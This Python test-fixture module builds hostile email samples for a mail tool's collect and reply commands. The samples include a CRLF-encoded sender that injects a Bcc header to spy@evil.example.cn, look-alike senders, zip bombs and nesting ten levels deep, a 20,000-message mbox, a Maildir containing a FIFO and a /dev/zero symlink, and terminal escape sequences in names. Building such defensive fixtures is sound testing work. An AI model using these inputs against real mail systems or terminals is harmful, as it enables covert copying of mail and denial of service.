"""Hostile mail for ``collect`` and ``reply`` (issue 11), generated on demand.

``build_mail_corpus(directory)`` writes the sources and returns what each one is meant to
exercise. Everything is built from bytes here (no committed mailboxes): a sender address
that hides a line break, look-alike senders of a real one, zips that each respect the
per-zip limits but add up to hundreds of MB, archives and forwarded messages nested ten
deep, an mbox of 20,000 messages, a Maildir holding a named pipe and a link to
``/dev/zero``, and names written to take over a terminal.
"""

from __future__ import annotations

import base64
import io
import os
import tempfile
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path

from hostile_corpus import RawMember, write_minimal_form, write_raw_zip
from hostile_workbooks import TERMINAL_ATTACK

REAL = "li@traffic.example.cn"
LOOKALIKES = ["li@traffic.example.cn.", ".li@traffic.example.cn", "li.@traffic.example.cn", "li@.traffic.example.cn"]
MIB = 1024 * 1024


@dataclass
class MailCorpus:
    root: Path
    workbook: bytes
    sources: dict[str, Path] = field(default_factory=dict)


def _b64(data: bytes) -> bytes:
    raw = base64.b64encode(data)
    return b"\r\n".join(raw[i : i + 76] for i in range(0, len(raw), 76))


def message(sender: bytes, subject: bytes, message_id: bytes, attachments: list[tuple[bytes, bytes, bytes]],
            *, date: bytes = b"Fri, 15 Mar 2024 10:00:00 +0800") -> bytes:
    """A multipart message; ``attachments`` are (content type, file name header value, data)."""
    boundary = b"=_b_hostile_boundary"
    head = (b"From: " + sender + b"\r\nTo: finance@dept.example.cn\r\nSubject: " + subject
            + b"\r\nDate: " + date + b"\r\nMessage-ID: " + message_id + b"\r\nMIME-Version: 1.0\r\n"
            + b'Content-Type: multipart/mixed; boundary="' + boundary + b'"\r\n\r\n')
    body = b"--" + boundary + b"\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\xe8\xaf\xb7\xe6\x9f\xa5\xe6\x94\xb6\r\n"
    for ctype, name, data in attachments:
        body += (b"--" + boundary + b"\r\nContent-Type: " + ctype + b"\r\nContent-Transfer-Encoding: base64\r\n"
                 + b"Content-Disposition: attachment; filename=" + name + b"\r\n\r\n" + _b64(data) + b"\r\n")
    return head + body + b"--" + boundary + b"--\r\n"


def _xlsx(name: bytes, data: bytes) -> tuple[bytes, bytes, bytes]:
    return (b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", name, data)


def _zip_part(name: bytes, data: bytes) -> tuple[bytes, bytes, bytes]:
    return (b"application/zip", name, data)


def _ew(text: str) -> bytes:
    return b"=?utf-8?B?" + base64.b64encode(text.encode()) + b"?="


def big_zip(megabytes: int, inner_name: str = "明细.xlsx") -> bytes:
    """A zip holding one member of ``megabytes`` MB at an honest ratio (~120:1), tiny on disk."""
    unit = os.urandom(4 * 1024).hex().encode() + bytes(MIB - 8 * 1024)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(unit) + c.flush(zlib.Z_FULL_FLUSH)
    last = c.flush()
    crc = 0
    for _ in range(megabytes):
        crc = zlib.crc32(unit, crc)
    with tempfile.TemporaryDirectory() as tmp:
        path = write_raw_zip(Path(tmp) / "z.zip",
                             [RawMember(inner_name, block * megabytes + last, len(unit) * megabytes, crc)])
        return path.read_bytes()


def nested_zip(workbook: bytes, depth: int) -> bytes:
    """A workbook zipped ``depth`` times over (level1.zip › level2.zip › … › 自评表.xlsx)."""
    data, name = workbook, "自评表.xlsx"
    for level in range(depth, 0, -1):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr(name, data)
        data, name = buf.getvalue(), f"level{level}.zip"
    return data


def nested_forward(inner: bytes, depth: int) -> bytes:
    """``inner`` forwarded ``depth`` times, each as a message/rfc822 part of the next."""
    msg = inner
    for level in range(depth):
        boundary = b"=_fwd_%d" % level
        msg = (b"From: " + REAL.encode() + b"\r\nSubject: Fwd " + str(level).encode() + b"\r\nMessage-ID: <fwd"
               + str(level).encode() + b"@x>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\""
               + boundary + b"\"\r\n\r\n--" + boundary + b"\r\nContent-Type: message/rfc822\r\n\r\n" + msg
               + b"\r\n--" + boundary + b"--\r\n")
    return msg


def mbox_of(messages: list[bytes]) -> bytes:
    out = []
    for m in messages:
        out.append(b"From sender@example.cn Fri Mar 15 10:00:00 2024\n" + m.replace(b"\r\n", b"\n"))
    return b"\n".join(out) + b"\n"


def build_mail_corpus(directory: Path) -> MailCorpus:
    directory.mkdir(parents=True, exist_ok=True)
    wb = write_minimal_form(directory / "_form.xlsx", project_name="道路养护项目", unit="某某区交通运输局").read_bytes()
    (directory / "_form.xlsx").unlink()
    corpus = MailCorpus(directory, wb)

    def source(name: str, data: bytes) -> Path:
        path = directory / name
        path.write_bytes(data)
        corpus.sources[name] = path
        return path

    # an encoded address whose decoded text adds a Bcc line to the reply
    crlf = _ew("li@traffic.example.cn\r\nBcc: spy@evil.example.cn")
    source("crlf_sender.eml", message(crlf, b"crlf", b"<crlf@x>", [_xlsx(b"a.xlsx", wb)]))

    # the real sender and four look-alikes, each with a different workbook
    looks = [message(REAL.encode(), b"real", b"<real@x>", [_xlsx(b"real.xlsx", wb)])]
    for i, fake in enumerate(LOOKALIKES):
        other = wb + b"\0" * (i + 1)  # different bytes, still a zip (trailing data after EOCD)
        looks.append(message(b"<" + fake.encode() + b">", b"fake", b"<fake%d@x>" % i, [_xlsx(b"fake.xlsx", other)]))
    source("lookalikes.mbox", mbox_of(looks))

    # six zips of 48 MB each: every one within the per-zip limits, 288 MB together
    zips = [_zip_part(b"part%d.zip" % i, big_zip(48, f"明细{i}.xlsx")) for i in range(6)]
    source("zips_288mb.eml", message(REAL.encode(), b"zips", b"<zips@x>", zips))

    # a workbook zipped ten times over; a message forwarded ten times over
    source("nested_zip.eml", message(REAL.encode(), b"nested", b"<nested@x>", [_zip_part(b"level0.zip", nested_zip(wb, 10))]))
    deep = message(REAL.encode(), b"inner", b"<inner@x>", [_xlsx(b"deep.xlsx", wb)])
    source("nested_forward.eml", nested_forward(deep, 10))

    # names that would take over the terminal: subject, attachment, display name
    attack = _ew(TERMINAL_ATTACK)
    source("escapes.eml", message(_ew("张三\x1b[2J") + b" <zhang@edu.example.cn>", attack, b"<esc@x>",
                                  [_xlsx(b'"' + attack + b'.xlsx"', wb)]))

    # 20,000 messages, one in a hundred with a (distinct) workbook
    many = []
    for i in range(20_000):
        parts = [_xlsx(b"f%d.xlsx" % i, wb + b"\0" * (i // 100 + 1))] if i % 100 == 0 else []
        many.append(message(b"u%d@unit%d.example.cn" % (i, i % 50), b"m%d" % i, b"<m%d@many>" % i, parts))
    source("many.mbox", mbox_of(many))

    # a Maildir with one good message, a named pipe and a link to /dev/zero
    maildir = directory / "Maildir"
    for sub in ("cur", "new", "tmp"):
        (maildir / sub).mkdir(parents=True, exist_ok=True)
    (maildir / "new" / "1.good").write_bytes(message(REAL.encode(), b"good", b"<good@x>", [_xlsx(b"g.xlsx", wb)]))
    if hasattr(os, "mkfifo"):
        os.mkfifo(maildir / "new" / "2.fifo")
    if os.path.exists("/dev/zero"):
        os.symlink("/dev/zero", maildir / "cur" / "3.zero:2,S")
    corpus.sources["Maildir"] = maildir
    return corpus
